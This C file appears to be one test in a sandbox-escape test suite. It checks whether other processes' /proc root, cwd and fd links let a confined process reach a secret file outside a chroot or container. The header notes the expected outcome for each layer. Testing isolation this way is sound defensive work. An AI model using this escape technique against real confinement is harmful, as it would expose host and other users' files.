/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Trick: /proc/PID/root, cwd and fd of every process there is lead wherever that process
 * is, also out of a chroot.
 * Gain: the files of every other process, the keeper's and the host's init among them.
 * Expect: chroot=stops nspawn=stops container=stops
 * Expect root: chroot=escapes
 * Layer: PID namespace
 *
 * The kernel takes the right to trace for these links. Across user namespaces it takes
 * CAP_SYS_PTRACE in the outer one, so the chroot wall of an ordinary user holds here.
 */
#include "hostile.h"

static void look(const char *path)
{
	char up[PATH_MAX];
	int dir = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC | O_NONBLOCK);

	if (dir < 0)
		return;
	(void)snprintf(up, sizeof(up), "../../../../../../../..%s", given("SECRET_FILE"));
	if (secret_below(dir) || holds_secret(dir, up))
		escaped("%s leads to the host's files", path);
	(void)close(dir);
}

static void look_at_fds(const char *path)
{
	DIR *fds = opendir(path);
	struct dirent *d;
	char fd[PATH_MAX];

	while (fds && (d = readdir(fds))) {
		if (d->d_name[0] == '.')
			continue;
		(void)snprintf(fd, sizeof(fd), "%s/%s", path, d->d_name);
		look(fd);
	}
	if (fds)
		(void)closedir(fds);
}

int main(void)
{
	each_process("/root", look);
	each_process("/cwd", look);
	each_process("/fd", look_at_fds);
	stopped("no process's root, directory or descriptor leads out");
}
